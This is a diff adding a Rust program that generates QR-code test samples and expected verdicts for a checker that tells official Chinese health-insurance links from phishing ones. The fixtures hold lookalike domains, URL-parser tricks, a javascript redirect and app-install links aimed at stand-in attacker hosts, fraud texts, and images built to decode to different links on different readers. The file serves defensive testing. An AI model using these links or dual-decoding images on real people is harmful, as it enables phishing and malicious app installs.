@@ -1,0 +1,1268 @@
+//! Makes the pictures in `samples/` and the sidecar beside each: what the picture shows and what must be said of it.
+//!
+//!     cargo run --example make_samples
+//!
+//! The expected values are written here by hand, out of the rules in the README; nothing in this file asks the program.
+//! The output is the same on every run: the only chance is [`Chance`], which starts from a fixed seed. Samples that
+//! came from bug reports are not made here and are left alone.
+//!
+//! Symbols follow ISO/IEC 18004. The bit streams are written here because `qrcode` has no structured append and chooses
+//! the modes by itself (it takes some Chinese UTF-8 for Kanji); codewords, patterns and masks come from it.
+//!
+//! Nobody in a sample exists: 450000 is a whole province, and identity numbers start with the code of a county.
+
+use std::error::Error;
+use std::fs::{self, File};
+use std::io::BufWriter;
+use std::path::{Path, PathBuf};
+use std::slice;
+
+use image::codecs::gif::GifEncoder;
+use image::codecs::jpeg::JpegEncoder;
+use image::codecs::png::{CompressionType, FilterType, PngEncoder};
+use image::imageops::{self, blur, flip_horizontal, invert, rotate90};
+use image::{DynamicImage, Frame, GrayImage, Luma, Rgb, RgbImage, Rgba, RgbaImage};
+use qrcode::QrCode;
+use qrcode::bits::Bits;
+use qrcode::canvas::{Canvas, MaskPattern, is_functional};
+use qrcode::ec::construct_codewords;
+use qrcode::types::{Color, EcLevel, Version};
+
+type Outcome = Result<(), Box<dyn Error>>;
+
+/// A link to a listed host, and one that no list will ever hold.
+const OFFICIAL: &str = "https://fuwu.nhsa.gov.cn/nationalHallSt/";
+const EVIL: &str = "https://evil.example/ka?id=8";
+
+/// Pixels a module of a plain sample, and light modules around it (ISO/IEC 18004 asks for four).
+const MODULE_PX: u32 = 6;
+const QUIET: u32 = 4;
+
+const PAPER: Luma<u8> = Luma([255]);
+const INK: Luma<u8> = Luma([0]);
+
+fn main() -> Outcome {
+    official()?;
+    official_but_hard()?;
+    lookalike()?;
+    tricky_links()?;
+    two_codes()?;
+    two_in_one()?;
+    odd_symbols()?;
+    not_a_link()?;
+    damaged()?;
+    nothing_there()
+}
+
+// ---- official: everything here is safe ------------------------------------------------------------------------
+
+/// Name, error correction, link, trick.
+#[rustfmt::skip]
+const OFFICIAL_LINKS: &[(&str, EcLevel, &str, &str)] = &[
+    ("national-hall", EcLevel::M, OFFICIAL, "The national service hall, as on an honest poster."),
+    ("host-only", EcLevel::M, "https://fuwu.nhsa.gov.cn", "A link that ends with the host."),
+    ("hash-route", EcLevel::M, "https://fuwu.nhsa.gov.cn/nationalHallSt/#/search/medical", "A route of a single-page site behind the hash."),
+    ("query", EcLevel::Q, "https://ybj.beijing.gov.cn/zwgk/2024zcwj/?from=poster&hall=12", "A query with two plain fields; Beijing."),
+    ("port-443", EcLevel::M, "https://fuwu.nhsa.gov.cn:443/nationalHallSt/", "The default port written out is the same place."),
+    ("national-subdomain", EcLevel::M, "https://www.nhsa.gov.cn/", "A host under nhsa.gov.cn, whose owner says that all of them are its own."),
+    ("chongqing", EcLevel::L, "https://ylbzj.cq.gov.cn/zwgk_535/", "Lowest error correction; Chongqing."),
+    ("guangxi-hall", EcLevel::Q, "https://ybwt.ybj.gxzf.gov.cn/", "Third level of error correction; Guangxi service hall."),
+    ("jiangxi-hall", EcLevel::H, "https://ggfw.ybj.jiangxi.gov.cn/", "Highest error correction; Jiangxi service hall."),
+    ("guangdong", EcLevel::M, "https://hsa.gd.gov.cn/", "A provincial host that is listed by itself; Guangdong."),
+    ("hainan", EcLevel::M, "https://ybj.hainan.gov.cn/ggfw/", "A hall under a path; Hainan."),
+    ("gansu-hall", EcLevel::M, "https://ybdzpz.ylbz.gansu.gov.cn/", "A host under ylbz.gansu.gov.cn, the other zone with an owner's statement."),
+    ("social-insurance", EcLevel::M, "https://si.12333.gov.cn/", "The national social-insurance platform."),
+    ("escaped-chinese-path", EcLevel::M, "https://fuwu.nhsa.gov.cn/%E5%8C%BB%E4%BF%9D/%E6%9F%A5%E8%AF%A2", "A Chinese path, percent-encoded."),
+    ("raw-chinese-query", EcLevel::M, "https://fuwu.nhsa.gov.cn/search?kw=医保电子凭证", "Chinese in the query as plain UTF-8 bytes, as Chinese generators write it."),
+    ("redirect-to-official", EcLevel::M, "https://fuwu.nhsa.gov.cn/login?redirect=https%3A%2F%2Fybj.beijing.gov.cn%2F", "A redirect field whose value is an official link too."),
+    ("line-end", EcLevel::M, "https://fuwu.nhsa.gov.cn/\n", "A line end after the link, left by a generator; harmless because a slash follows the host."),
+];
+
+fn official() -> Outcome {
+    for &(name, level, text, trick) in OFFICIAL_LINKS {
+        let picture = drawn(&text_code(text, level)?, MODULE_PX);
+        one("official", name, trick, link(text, &[]), picture)?;
+    }
+    let (capitals, shortest) = ("HTTPS://FUWU.NHSA.GOV.CN/", "HTTPS://NHSA.GOV.CN/");
+    let long = format!("{OFFICIAL}?ticket={}", letters(600));
+    let utf8 = [Segment::Eci(26), Segment::Bytes(OFFICIAL.as_bytes())];
+    let bytes = [Segment::Bytes(OFFICIAL.as_bytes())];
+    #[rustfmt::skip]
+    let symbols = [
+        ("capitals", capitals, encoded(&[Segment::Alphanumeric(capitals)], EcLevel::M, 1, None)?, "Capitals only: the alphanumeric mode has no others."),
+        ("version-1", shortest, encoded(&[Segment::Alphanumeric(shortest)], EcLevel::M, 1, None)?, "Version 1, the smallest symbol, which has no alignment pattern."),
+        ("version-10", OFFICIAL, encoded(&bytes, EcLevel::H, 10, None)?, "Version 10: version information, and 16-bit byte counts."),
+        ("large", &long, text_code(&long, EcLevel::M)?, "A long ticket in the query makes a large symbol."),
+        ("eci-utf8", OFFICIAL, encoded(&utf8, EcLevel::M, 1, None)?, "An ECI that says UTF-8, which changes no byte."),
+    ];
+    for (name, text, code, trick) in symbols {
+        let picture = drawn(&code, MODULE_PX);
+        one("official", name, trick, link(text, &[]), picture)?;
+    }
+    Ok(())
+}
+
+fn official_but_hard() -> Outcome {
+    let code = text_code(OFFICIAL, EcLevel::M)?;
+    let sturdy = text_code(OFFICIAL, EcLevel::H)?;
+    let plain = drawn(&code, MODULE_PX);
+    let side = plain.width();
+
+    let inverted = negative(&plain);
+    let mut turned_17 = GrayImage::from_pixel(360, 360, PAPER);
+    place(
+        &plain,
+        &mut turned_17,
+        turned((180.0, 180.0), f64::from(side), 17.0),
+    );
+    let faded = GrayImage::from_fn(side, side, |x, y| {
+        Luma([if plain[(x, y)] == INK { 110 } else { 185 }])
+    });
+    let blue = inked(&plain, Rgb([0, 82, 160]));
+    let red = inked(&plain, Rgb([190, 0, 20]));
+
+    let clear = RgbaImage::from_fn(side, side, |x, y| match plain[(x, y)] {
+        INK => Rgba([0, 0, 0, 255]),
+        _ => Rgba([255, 255, 255, 0]),
+    });
+    let mut sticker = RgbaImage::from_pixel(side + 60, side + 60, Rgba([255, 255, 255, 0]));
+    let opaque = DynamicImage::from(plain.clone()).into_rgba8();
+    imageops::replace(&mut sticker, &opaque, 30, 30);
+
+    let mut logo = drawn(&sturdy, 8);
+    let middle = logo.width() as i32 / 2;
+    disc(&mut logo, (middle, middle), 30, PAPER);
+    disc(&mut logo, (middle, middle), 24, Luma([90]));
+
+    // The finders reach to pixel 88; the splashes stay out of them.
+    let mut dirty = drawn(&sturdy, 8);
+    let mut chance = Chance(5);
+    for _ in 0..16 {
+        let mut within = || 120 + chance.below(160) as i32;
+        let centre = (within(), within());
+        let radius = 5 + chance.below(8) as i32;
+        let grey = [Luma([40]), Luma([90]), PAPER][chance.below(3) as usize];
+        disc(&mut dirty, centre, radius, grey);
+    }
+
+    let mut busy = poster(720, 560, 11);
+    imageops::replace(&mut busy, &drawn(&code, 5), 420, 270);
+
+    let mut aside = poster(640, 480, 12);
+    let corners = [
+        (190.0, 95.0),
+        (470.0, 120.0),
+        (455.0, 400.0),
+        (165.0, 360.0),
+    ];
+    place(&drawn(&code, 10), &mut aside, corners);
+    shade(&mut aside, |x, _| 0.95 - 0.25 * x);
+    let aside = noisy(&blur(&aside, 0.8), 12, 13);
+
+    let mut shadow = poster(560, 420, 14);
+    place(
+        &drawn(&code, 10),
+        &mut shadow,
+        turned((280.0, 210.0), 300.0, -6.0),
+    );
+    shade(&mut shadow, |x, y| 1.0 - 0.7 * (0.6 * x + 0.4 * y));
+    let shadow = noisy(&blur(&shadow, 0.6), 8, 15);
+
+    #[rustfmt::skip]
+    let pictures: [(&str, DynamicImage, &str); 17] = [
+        ("inverted", inverted.into(), "White on black."),
+        ("rotated-90", rotate90(&plain).into(), "A quarter turn."),
+        ("rotated-17", turned_17.into(), "Turned by 17 degrees, with grey edges from the turning."),
+        ("mirrored", flip_horizontal(&plain).into(), "Seen in a mirror or through a window."),
+        ("small-modules", drawn(&code, 3).into(), "Three pixels a module."),
+        ("faded", faded.into(), "Sun-bleached print: little contrast."),
+        ("blue", blue.into(), "Blue on white: no weighing of the colours reads anything else."),
+        ("red", red.into(), "Red on white, as on a festive notice."),
+        ("transparent", clear.into(), "No background: on white as printed, on black nothing at all can be seen."),
+        ("transparent-margin", sticker.into(), "A sticker with its own white ground: the same on white and on black."),
+        ("as-webp.webp", plain.clone().into(), "WebP with one frame."),
+        ("as-jpeg.jpg", plain.clone().into(), "JPEG with its blurred edges."),
+        ("logo", logo.into(), "A round emblem in the middle, made good by error correction."),
+        ("dirt", dirty.into(), "Splashes over some modules in a hundred."),
+        ("busy-poster", busy.into(), "A code in the corner of a poster full of text."),
+        ("perspective.jpg", aside.into(), "Photographed from the side, a little blurred and noisy."),
+        ("uneven-light.jpg", shadow.into(), "Bright at one corner and in deep shade at the other."),
+    ];
+    for (name, picture, trick) in pictures {
+        one("official", name, trick, link(OFFICIAL, &[]), picture)?;
+    }
+
+    let trick = "GIF with a palette and one frame.";
+    write_sidecar("official", "as-gif", trick, &[], &[link(OFFICIAL, &[])])?;
+    write_gif("official/as-gif.gif", &[&plain])?;
+
+    let other = "https://ybj.beijing.gov.cn/";
+    let pair = beside(&plain, &drawn(&text_code(other, EcLevel::M)?, MODULE_PX));
+    let symbols = [link(OFFICIAL, &[]), link(other, &[])];
+    let trick = "Two codes side by side, both official.";
+    save("official", "two-official-codes", trick, &[], &symbols, pair)
+}
+
+// ---- lookalike: honest links to the wrong place ---------------------------------------------------------------
+
+/// Name, link, reasons, trick.
+#[rustfmt::skip]
+const LOOKALIKE_LINKS: &[(&str, &str, &[&str], &str)] = &[
+    ("embedded-with-dots", "https://fuwu.nhsa.gov.cn.k7x2p.top/ka", &["target-embedding", "not-listed"], "The official host, whole, in front of another domain."),
+    ("embedded-with-hyphens", "https://fuwu-nhsa-gov-cn.k7x2p.top/", &["target-embedding", "not-listed"], "The official host with hyphens for dots."),
+    ("embedded-in-the-name", "https://nhsa-gov-cn.top/", &["target-embedding", "not-listed"], "A registered name that spells the official one."),
+    ("brand-plus-activate", "https://nhsa-jihuo.com/", &["combo-squatting", "not-listed"], "The official name plus 'activate' in pinyin."),
+    ("brand-plus-subsidy", "https://www.12333-buzhu.com/lq", &["combo-squatting", "not-listed"], "The hotline's number plus 'subsidy' in pinyin."),
+    ("suffix-top", "https://12333.top/", &["suffix-swap", "not-listed"], "The hotline's number under another suffix."),
+    ("suffix-com-cn", "https://www.nhsa.com.cn/", &["suffix-swap", "not-listed"], "com.cn instead of gov.cn: anybody can buy it."),
+    ("suffix-gov-cm", "https://fuwu.nhsa.gov.cm/", &["suffix-swap", "not-listed"], "Cameroon instead of China, one letter away."),
+    ("one-letter-off", "https://etax.chimatax.top/", &["typosquatting", "not-listed"], "One letter of the tax bureau's name replaced."),
+    ("one-letter-more", "https://www.chinattax.com/", &["typosquatting", "not-listed"], "One letter of the tax bureau's name doubled."),
+    ("cyrillic", "https://etax.\u{441}hinatax.com/", &["confusable", "idn", "not-listed"], "The first letter of chinatax is Cyrillic."),
+    ("cyrillic-punycode", "https://etax.xn--hinatax-xjg.com/", &["confusable", "idn", "not-listed"], "The same name in its xn-- form."),
+    ("chinese-name", "https://xn--ruqw5ft06ayjc.com/", &["idn", "not-listed"], "A Chinese name (医保激活) in its xn-- form; resembles no host."),
+    ("resembles-nothing", "https://k7x2p.top/yb/q?c=45", &["not-listed"], "The phishing hosts seen in the wild resemble nothing."),
+    ("gov-cn-not-listed", "https://sz12333.gov.cn/", &["not-listed"], "A government host that is not on the list; nothing is said against it."),
+    ("gov-cn-one-letter-off", "https://fuwu.nhza.gov.cn/", &["not-listed"], "Within gov.cn nobody is called an imitator."),
+    ("under-a-plain-entry", "https://evil.ybj.beijing.gov.cn/", &["not-listed"], "Below a host that is listed for itself alone."),
+    ("above-an-entry", "https://gd.gov.cn/", &["not-listed"], "The province, of which only one host is listed."),
+    ("short-link", "https://t.cn/A6000000", &["short-link"], "A short link: the destination is hidden."),
+    ("short-link-http", "http://dwz.cn/00000000", &["short-link"], "A short link without encryption."),
+    ("open-form", "https://www.wjx.cn/vm/EXAMPLE.aspx", &["open-form"], "A questionnaire that anybody can publish."),
+    ("app-distribution", "https://www.pgyer.com/example", &["app-distribution"], "A page that installs apps outside the stores."),
+    ("bucket", "https://www-nhsa-gov-cn-1305404260.cos.ap-beijing.myqcloud.com/index.html", &["open-hosting"], "A storage bucket that carries the official name, seen in 2022."),
+    ("known-phishing", "https://www.mk2y.sh/", &["known-phishing"], "A host of the fake credential messages of December 2022."),
+    ("impostor", "https://si.12333.cn/", &["impostor"], "Printed by others as the social-insurance platform, which is si.12333.gov.cn."),
+    ("third-party", "https://card.wecity.qq.com/", &["third-party"], "A third party's channel, not an official platform."),
+    ("not-for-visitors", "https://tps.ylbz.tj.gov.cn/", &["not-for-visitors"], "A drug-procurement system for institutions."),
+    ("unproven", "https://www.gxybj.com/", &["unproven"], "Said to be a provincial platform, without proof."),
+    ("needs-local-confirmation", "https://ggfw.scyb.org.cn/", &["needs-local-confirmation"], "Probably Sichuan's hall, outside gov.cn: only a local office can confirm it."),
+];
+
+fn lookalike() -> Outcome {
+    for &(name, text, reasons, trick) in LOOKALIKE_LINKS {
+        let picture = drawn(&text_code(text, EcLevel::M)?, MODULE_PX);
+        one("lookalike", name, trick, link(text, reasons), picture)?;
+    }
+    let text = "https://nhsa-jihuo.com/";
+    let mut photo = poster(640, 480, 21);
+    let covered = drawn(&text_code(OFFICIAL, EcLevel::M)?, MODULE_PX);
+    imageops::replace(&mut photo, &covered, 220, 130);
+    let sticker = drawn(&text_code(text, EcLevel::M)?, 10);
+    place(&sticker, &mut photo, turned((331.0, 241.0), 250.0, 3.0));
+    let photo = noisy(&blur(&photo, 0.6), 8, 22);
+    let symbol = link(text, &["combo-squatting", "not-listed"]);
+    let trick = "A sticker over the official code of a real poster.";
+    one(
+        "lookalike",
+        "sticker-over-official.jpg",
+        trick,
+        symbol,
+        photo,
+    )
+}
+
+// ---- tricks: links that two programs read differently, and pictures that two phones do ------------------------
+
+/// Name, link, reasons, trick.
+#[rustfmt::skip]
+const TRICKY_LINKS: &[(&str, &str, &[&str], &str)] = &[
+    ("user-info", "https://fuwu.nhsa.gov.cn@evil.example/", &["embedded-credentials", "not-listed"], "The official host is only a user name."),
+    ("user-info-with-port", "https://fuwu.nhsa.gov.cn:443@evil.example/", &["embedded-credentials", "not-listed"], "The official host and port are only a user name and password."),
+    ("user-at-official", "https://guest@fuwu.nhsa.gov.cn/", &["embedded-credentials"], "A user name in front of the official host."),
+    ("backslash", r"https://fuwu.nhsa.gov.cn\@evil.example/", &["backslash"], "Official to browsers, the attacker's host to libcurl, Java, PHP, Python."),
+    ("ideographic-full-stop", "https://fuwu.nhsa.gov\u{3002}cn/", &["confusable", "idn", "not-listed"], "A Chinese full stop in the host, which browsers turn into a dot."),
+    ("full-width-host", "https://\u{FF46}\u{FF55}\u{FF57}\u{FF55}.nhsa.gov.cn/", &["idn", "not-listed"], "Full-width letters, which browsers turn into plain ones."),
+    ("percent-in-host", "https://fuwu.nhsa%2Egov.cn/", &["percent-in-host"], "An escaped dot in the host."),
+    ("trailing-dot", "https://fuwu.nhsa.gov.cn./", &["trailing-dot"], "A dot at the end of the host."),
+    ("comma-in-label", "https://evil.example,.nhsa.gov.cn/", &["bad-host"], "Under nhsa.gov.cn to every URL parser, and a link to evil.example in a chat."),
+    ("ip-address", "https://203.0.113.7/ybj/", &["ip-address", "not-listed"], "An address in numbers."),
+    ("decimal-ip-address", "https://3405803783/", &["ip-address"], "The same address as one decimal number."),
+    ("port-8443", "https://fuwu.nhsa.gov.cn:8443/", &["unusual-port"], "Another port of the official host is another service."),
+    ("http", "http://fuwu.nhsa.gov.cn/", &["not-encrypted"], "Without encryption anybody on the way can change the page."),
+    ("redirect", "https://fuwu.nhsa.gov.cn/go?url=https://evil.example/", &["redirect"], "The official host is asked to send the visitor on."),
+    ("redirect-escaped", "https://fuwu.nhsa.gov.cn/go?url=https%3A%2F%2Fevil.example%2F", &["redirect"], "The same, percent-encoded."),
+    ("redirect-escaped-twice", "https://fuwu.nhsa.gov.cn/#/login?Redirect=https%253A%252F%252Fevil.example", &["redirect"], "The same, twice encoded, behind the hash."),
+    ("redirect-without-scheme", "https://fuwu.nhsa.gov.cn/go?next=//evil.example/", &["redirect"], "Two slashes are enough to leave the host."),
+    ("embedded-link", "https://fuwu.nhsa.gov.cn/view?id=https://evil.example/", &["embedded-link"], "A second address in a field with a harmless name."),
+    ("embedded-link-without-scheme", "https://fuwu.nhsa.gov.cn/view?id=//evil.example/", &["embedded-link"], "The same without a scheme."),
+    ("script-in-field", "https://fuwu.nhsa.gov.cn/go?url=javascript:alert(1)", &["redirect"], "A redirect into a script."),
+    ("dot-segments", "https://fuwu.nhsa.gov.cn/app/../go", &["odd-path"], "Dot segments in the path."),
+    ("dot-segments-escaped", "https://fuwu.nhsa.gov.cn/app/%2e%2E/go", &["odd-path"], "Dot segments, escaped."),
+    ("double-slash", "https://fuwu.nhsa.gov.cn/app//go", &["odd-path"], "An empty segment in the path."),
+    ("at-in-path", "https://fuwu.nhsa.gov.cn/@evil.example", &["odd-path"], "An @ that careless programs take for the end of a user name."),
+    ("escaped-slash-in-path", "https://fuwu.nhsa.gov.cn/%2Fevil.example", &["odd-path"], "An escaped slash that some servers unescape."),
+    ("angle-brackets", "https://fuwu.nhsa.gov.cn/q?t=<b>", &["bad-character"], "Angle brackets, where link finders stop."),
+    ("bad-escape", "https://fuwu.nhsa.gov.cn/%zz", &["bad-escape"], "A percent sign without two hexadecimal digits."),
+    ("gbk-escapes", "https://fuwu.nhsa.gov.cn/search?kw=%D2%BD%B1%A3", &["bad-escape"], "Escapes of GBK bytes: not UTF-8."),
+    ("deep-encoding", "https://fuwu.nhsa.gov.cn/search?kw=%2525252525252541", &["deep-encoding"], "Eight layers of percent-encoding."),
+    ("trailing-text", "https://fuwu.nhsa.gov.cn/ 激活码 8", &["extra-text"], "A sentence after the link."),
+    ("tab", "https://fuwu.nhsa.\tgov.cn/", &["extra-text"], "A tab in the host, which browsers drop."),
+    ("two-lines", "https://fuwu.nhsa.gov.cn/\nhttps://evil.example/", &["extra-text"], "Two links on two lines: which one opens?"),
+    ("ideographic-space", "https://fuwu.nhsa.gov.cn/\u{3000}https://evil.example/", &["extra-text"], "A Chinese space (U+3000) and a second link."),
+    ("bom", "\u{FEFF}https://fuwu.nhsa.gov.cn/", &["hidden-characters"], "A byte-order mark before the link."),
+    ("nul", "https://fuwu.nhsa.gov.cn/\0.evil.example/", &["hidden-characters"], "A NUL, where C programs stop reading."),
+    ("zero-width", "https://fuwu.nhsa.gov.cn/ka\u{200B}pian", &["hidden-characters"], "A zero-width space."),
+    ("right-to-left", "https://fuwu.nhsa.gov.cn/\u{202E}elpmaxe.live", &["hidden-characters"], "A right-to-left override turns the end of the address round."),
+    ("right-to-left-escaped", "https://fuwu.nhsa.gov.cn/%E2%80%AEelpmaxe.live", &["hidden-characters"], "The same override, escaped."),
+];
+
+fn tricky_links() -> Outcome {
+    for &(name, text, reasons, trick) in TRICKY_LINKS {
+        let picture = drawn(&text_code(text, EcLevel::M)?, MODULE_PX);
+        one("tricks", name, trick, link(text, reasons), picture)?;
+    }
+    #[rustfmt::skip]
+    let texts = [
+        ("leading-text", "请用手机打开 https://fuwu.nhsa.gov.cn/", "A sentence before the link."),
+        ("url-prefix", "URL:https://fuwu.nhsa.gov.cn/", "The old URL: prefix, which some readers drop and some do not."),
+    ];
+    for (name, text, trick) in texts {
+        let symbol = Symbol {
+            kind: "text",
+            ..link(text, &["extra-text"])
+        };
+        one(
+            "tricks",
+            name,
+            trick,
+            symbol,
+            drawn(&text_code(text, EcLevel::M)?, MODULE_PX),
+        )?;
+    }
+    let start = format!("{OFFICIAL}?t=");
+    let text = format!("{start}{}", letters(2_100 - start.len()));
+    let picture = drawn(&text_code(&text, EcLevel::L)?, 4);
+    one(
+        "tricks",
+        "too-long",
+        "A link of 2,100 bytes.",
+        link(&text, &["too-long"]),
+        picture,
+    )
+}
+
+/// Pictures with two codes, each to be judged by itself.
+fn two_codes() -> Outcome {
+    let official = text_code(OFFICIAL, EcLevel::M)?;
+    let evil = text_code(EVIL, EcLevel::M)?;
+    let (good, bad) = (drawn(&official, MODULE_PX), drawn(&evil, MODULE_PX));
+    let mut photo = poster(760, 460, 31);
+    place(
+        &drawn(&official, 10),
+        &mut photo,
+        turned((210.0, 230.0), 260.0, 4.0),
+    );
+    place(
+        &drawn(&evil, 10),
+        &mut photo,
+        turned((540.0, 240.0), 260.0, -8.0),
+    );
+    let photo = noisy(&blur(&photo, 0.6), 8, 32);
+    #[rustfmt::skip]
+    let pictures = [
+        ("two-codes", beside(&good, &bad), "The official code beside another one."),
+        ("inverted-neighbour", beside(&good, &negative(&bad)), "The official code beside a white-on-black one, which only some readers see."),
+        ("two-codes-photo.jpg", photo, "A second code glued beside the official one."),
+    ];
+    let symbols = [link(OFFICIAL, &[]), link(EVIL, &["not-listed"])];
+    for (name, picture, trick) in pictures {
+        save("tricks", name, trick, &["not-listed"], &symbols, picture)?;
+    }
+    Ok(())
+}
+
+/// Pictures in which two codes share one place.
+fn two_in_one() -> Outcome {
+    let nested = |outer: &str, inner: &str| -> Result<GrayImage, Box<dyn Error>> {
+        let outer = encoded(&[Segment::Bytes(outer.as_bytes())], EcLevel::H, 12, None)?;
+        let mut picture = drawn(&outer, 10);
+        let inner = drawn(&text_code(inner, EcLevel::L)?, 4);
+        let at = i64::from(picture.width() - inner.width()) / 2;
+        imageops::replace(&mut picture, &inner, at, at);
+        Ok(picture)
+    };
+
+    // Twins differ in data modules only, so that any mixture of the two still looks like one symbol.
+    let twin = |text: &str| {
+        let mask = Some(MaskPattern::Checkerboard);
+        encoded(&[Segment::Bytes(text.as_bytes())], EcLevel::H, 5, mask)
+    };
+    let (official, evil) = (twin(OFFICIAL)?, twin(EVIL)?);
+    let split = mixed(&official, &evil, 9, |x, y| x / 3 == 1 && y / 3 == 1);
+    let blurred = blur(&split, 2.2);
+    let small = mixed(&official, &evil, 3, |x, y| x == 1 && y == 1);
+    let spot = mixed(&evil, &official, 12, |x, y| x / 4 == 1 && y / 4 == 1);
+    let halves = mixed(&official, &evil, 10, |x, _| x < 6);
+    let diagonal = mixed(&official, &evil, 10, |x, y| x + y < 10);
+
+    #[rustfmt::skip]
+    let pictures = [
+        ("evil-inside-official", nested(OFFICIAL, EVIL)?, "Another code inside the official one."),
+        ("official-inside-evil", nested(EVIL, OFFICIAL)?, "The official code inside another one."),
+    ];
+    for (name, picture, trick) in pictures {
+        save(
+            "tricks",
+            name,
+            trick,
+            &["ambiguous"],
+            &[ambiguous(), ambiguous()],
+            picture,
+        )?;
+    }
+    // Blur leaves one reading, and it is not the official one.
+    let trick = "Split modules as a camera sees them: the rim outweighs the middle, and the other link is left.";
+    one(
+        "tricks",
+        "split-modules-blurred",
+        trick,
+        link(EVIL, &["not-listed"]),
+        blurred,
+    )?;
+
+    #[rustfmt::skip]
+    let pictures: [(&str, DynamicImage, &str); 9] = [
+        ("split-modules", split.into(), "The middle of each module belongs to the official code, its rim to another."),
+        ("split-modules-small", small.into(), "The same at three pixels a module, where decoders differ."),
+        ("split-modules-spot", spot.into(), "A spot in the middle of each official module belongs to another code."),
+        ("split-modules-halves", halves.into(), "The left of each module belongs to the official code, the right to another."),
+        ("split-modules-diagonal", diagonal.into(), "Each module is cut along its diagonal between two codes."),
+        ("alpha-evil-on-white", two_faced(&evil, &official).into(), "Official on black and without its alpha channel, another link on white."),
+        ("alpha-evil-on-black", two_faced(&official, &evil).into(), "Official on white, another link on black, as in a chat at night."),
+        ("colour-evil-in-bt709", four_inks(&official, &evil).into(), "Official as cameras weigh colours (BT.601), another link as screens do (BT.709)."),
+        ("colour-evil-in-bt601", four_inks(&evil, &official).into(), "Official as screens weigh colours (BT.709), another link as cameras do (BT.601)."),
+    ];
+    for (name, picture, trick) in pictures {
+        one("tricks", name, trick, ambiguous(), picture)?;
+    }
+
+    let trick = "Two frames: the official code first, then another.";
+    let reasons = ["several-frames"];
+    write_sidecar(
+        "tricks",
+        "two-frames",
+        trick,
+        &reasons,
+        &[link(OFFICIAL, &reasons)],
+    )?;
+    let frames = [drawn(&official, MODULE_PX), drawn(&evil, MODULE_PX)];
+    write_gif("tricks/two-frames.gif", &[&frames[0], &frames[1]])
+}
+
+/// Symbols with something in their bit stream that a link does not need.
+fn odd_symbols() -> Outcome {
+    let (first, second) = ("https://fuwu.nhsa.gov.cn", ".evil.example/");
+    let parity = first
+        .bytes()
+        .chain(second.bytes())
+        .fold(0, |sum, byte| sum ^ byte);
+    let append = Segment::Append {
+        index: 0,
+        count: 2,
+        parity,
+    };
+    // In UTF-16BE the last four bytes are two Chinese characters.
+    let (utf8, utf16) = (b"https://fuwu.nhsa.gov.cn/", b"evil");
+    let ecis = [
+        Segment::Eci(26),
+        Segment::Bytes(utf8),
+        Segment::Eci(25),
+        Segment::Bytes(utf16),
+    ];
+    // 医保卡已停用,请扫码重新激活
+    let gbk = b"\xD2\xBD\xB1\xA3\xBF\xA8\xD2\xD1\xCD\xA3\xD3\xC3\xA3\xAC\xC7\xEB\xC9\xA8\xC2\xEB\xD6\xD8\xD0\xC2\xBC\xA4\xBB\xEE";
+    #[rustfmt::skip]
+    let symbols: [(&str, &[Segment], Symbol, &str); 4] = [
+        ("structured-append", &[append, Segment::Bytes(first.as_bytes())], link(first, &["structured-append", "unconfirmed"]), "The first of two symbols; a reader that joins them goes to fuwu.nhsa.gov.cn.evil.example."),
+        ("fnc1", &[Segment::Fnc1, Segment::Bytes(OFFICIAL.as_bytes())], link(OFFICIAL, &["fnc1", "unconfirmed"]), "FNC1 in first position: marked as GS1 data, which a link is not."),
+        ("two-ecis", &ecis, link("https://fuwu.nhsa.gov.cn/evil", &["eci"]), "The bytes are an official link, but its end is marked as UTF-16."),
+        ("gbk-text", &[Segment::Bytes(gbk)], other("text", None), "A fraud message in GBK, without an ECI."),
+    ];
+    for (name, segments, symbol, trick) in symbols {
+        let picture = drawn(&encoded(segments, EcLevel::M, 1, None)?, MODULE_PX);
+        one("tricks", name, trick, symbol, picture)?;
+    }
+
+    let micro = QrCode::with_version(b"HTTPS://DWZ.CN/A1B2C3", Version::Micro(4), EcLevel::L)?;
+    let micro = drawn(
+        &Code {
+            width: micro.width() as u32,
+            modules: micro.to_colors(),
+        },
+        8,
+    );
+    let official = drawn(&text_code(OFFICIAL, EcLevel::M)?, MODULE_PX);
+    let pair = beside(&official, &micro);
+    let reasons = ["micro-qr"];
+    save(
+        "tricks",
+        "micro-qr",
+        "A short link in Micro QR.",
+        &reasons,
+        &[],
+        micro,
+    )?;
+    let trick = "A Micro QR code beside the official one.";
+    save(
+        "tricks",
+        "micro-qr-neighbour",
+        trick,
+        &reasons,
+        &[link(OFFICIAL, &reasons)],
+        pair,
+    )
+}
+
+// ---- not a link: a sample for every other kind of payload -----------------------------------------------------
+
+/// Name, kind, payload, trick. The kinds that belong to a person are in [`not_a_link`].
+#[rustfmt::skip]
+const PUBLIC_PAYLOADS: &[(&str, &str, &str, &str)] = &[
+    ("script", "script", "javascript:location='https://evil.example/'", "Runs a script."),
+    ("data-page", "script", "data:text/html,<h1>医保激活</h1>", "A whole page inside the code."),
+    ("local-file", "script", "file:///sdcard/Download/yibao.html", "Opens a file of the phone."),
+    ("apk", "app-install", "https://dl.example-yibao.top/yibao.apk", "Installs an Android app."),
+    ("ios-install", "app-install", "itms-services://?action=download-manifest&url=https://evil.example/m.plist", "Installs an app on an iPhone."),
+    ("wechat-friend", "wechat", "https://u.wechat.com/EXAMPLEEXAMPLE", "Adds somebody as a WeChat friend."),
+    ("wechat-account", "wechat", "https://weixin.qq.com/r/EXAMPLEEXAMPLE", "A WeChat account; anybody can make one."),
+    ("wechat-group", "wechat", "https://weixin.qq.com/g/EXAMPLEEXAMPLE", "Joins a WeChat group."),
+    ("wechat-scheme", "wechat", "weixin://dl/business/?t=EXAMPLE", "Opens something in WeChat."),
+    ("alipay-page", "alipay", "alipays://platformapi/startapp?appId=20000067&url=https%3A%2F%2Fevil.example%2F", "Opens any page in Alipay."),
+    ("unionpay", "unionpay", "https://qr.95516.com/00010000/00000000000000000000", "A UnionPay code."),
+    ("bare-host", "bare-host", "www.k7x2p.top/yb", "A host without a scheme; phones may still open it."),
+    ("bare-official-host", "bare-host", "fuwu.nhsa.gov.cn", "The official host without a scheme."),
+    ("text", "text", "请到一楼大厅取号办理医保业务", "Plain Chinese text."),
+    ("text-order", "text", "医保卡已停用,请加微信重新激活", "Text that asks for something."),
+];
+
+/// Name, kind, payload, trick. The content belongs to a person and is not in the sidecar.
+#[rustfmt::skip]
+const PRIVATE_PAYLOADS: &[(&str, &str, Segment, &str)] = &[
+    ("credential", "credential", Segment::Numeric("4240000000000000000000450000"), "An insured person's live credential."),
+    ("wechat-payment-code", "payment-code", Segment::Numeric("134567890123456789"), "A WeChat payment code: whoever scans it takes the money."),
